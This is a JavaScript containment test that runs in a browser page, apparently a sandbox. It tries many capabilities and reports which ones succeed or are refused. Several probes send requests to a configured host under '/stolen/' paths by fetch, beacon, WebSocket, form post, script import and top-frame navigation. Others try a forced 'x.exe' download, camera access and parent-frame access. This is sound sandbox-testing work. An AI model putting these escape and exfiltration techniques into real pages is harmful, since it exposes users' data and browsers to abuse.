// A work that tries everything a program could try in a browser, and tells what came of it.

import { word } from './part.js';
const tell = {};
const late = () => new Promise((resolve) => setTimeout(resolve, 20000, 'no answer'));
const attempt = async (name, act) => {
  try { tell[name] = String(await Promise.race([act(), late()])); } catch (error) { tell[name] = 'refused'; }
};
const loads = (element, address, name = 'src') => new Promise((resolve, reject) => {
  element.onload = () => resolve('loaded');
  element.onerror = reject;
  element[name] = address;
  document.body.append(element);
});
// For what a browser that refuses it may never tell.
const soon = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 1500))]);
const make = (name) => document.createElement(name);
const { house, other } = await (await fetch('data/where.json')).json();

await attempt('module', () => word);
await attempt('plain', () => window.plain);
await attempt('inline', () => window.inline);
await attempt('style', () => getComputedStyle(document.querySelector('#p')).color);
await attempt('picture', () => document.querySelector('#picture').decode().then(() => 'shown'));
await attempt('wasm', async () => (await WebAssembly.compileStreaming(fetch('code.wasm'))).constructor.name);
await attempt('worker', () => new Promise((resolve) => {
  const code = new Blob([`fetch('${house}/stolen/worker').then(() => postMessage('out'), () => postMessage('kept in'))`]);
  new Worker(URL.createObjectURL(code)).onmessage = (event) => resolve(event.data);
}));
await attempt('own frame', () => loads(make('iframe'), new URL('inner.html', location).href));
await attempt('blob', () => fetch(URL.createObjectURL(new Blob(['b']))).then((found) => found.text()));

await attempt('origin', () => self.origin);
await attempt('cookie', () => document.cookie);
await attempt('localStorage', () => localStorage.length);
await attempt('indexedDB', () => new Promise((yes, no) => {
  const opening = indexedDB.open('x');
  opening.onsuccess = yes;
  opening.onerror = no;
}));
await attempt('caches', () => caches.open('x'));
await attempt('parent', () => parent.document.title);
await attempt('top', () => { if (top === self) throw 0; top.location = house + '/stolen/top'; return 'gone'; });
await attempt('open', () => window.open(house + '/stolen/popup'));
await attempt('serviceWorker', () => navigator.serviceWorker.register('sw.js'));
await attempt('fetch house', () => fetch(house + '/stolen/fetch', { mode: 'no-cors' }));
await attempt('fetch other work', () => fetch(other));
await attempt('xhr', () => new Promise((yes, no) => {
  const asking = new XMLHttpRequest();
  asking.onload = yes;
  asking.onerror = no;
  asking.open('GET', house + '/stolen/xhr');
  asking.send();
}));
await attempt('image', () => loads(new Image(), house + '/stolen/image'));
await attempt('script', () => loads(make('script'), house + '/stolen/script'));
await attempt('import', () => import(house + '/stolen/import'));
await attempt('style from house', () => soon(loads(Object.assign(make('link'), { rel: 'stylesheet' }), house + '/stolen/css', 'href')));
await attempt('video', () => soon(loads(make('video'), house + '/stolen/video')));
await attempt('socket', () => soon(new Promise((yes, no) => {
  const socket = new WebSocket(house.replace('http', 'ws') + '/stolen/socket');
  socket.onopen = yes;
  socket.onerror = no;
})));
await attempt('frame', () => loads(make('iframe'), house + '/stolen/frame').then(() => 'asked'));
await attempt('beacon', () => navigator.sendBeacon(house + '/stolen/beacon', 'x'));
await attempt('form', () => {
  const form = Object.assign(make('form'), { action: house + '/stolen/form', method: 'post' });
  document.body.append(form);
  form.submit();
  return 'sent';
});
await attempt('download', () => {
  const link = Object.assign(make('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' });
  document.body.append(link);
  link.click();
  return 'clicked';
});
await attempt('alert', () => { alert('x'); return 'shown'; });
await attempt('clipboard', () => navigator.clipboard.writeText('x'));
await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
document.documentElement.dataset.told = JSON.stringify(tell);
parent.postMessage({ told: tell }, '*');
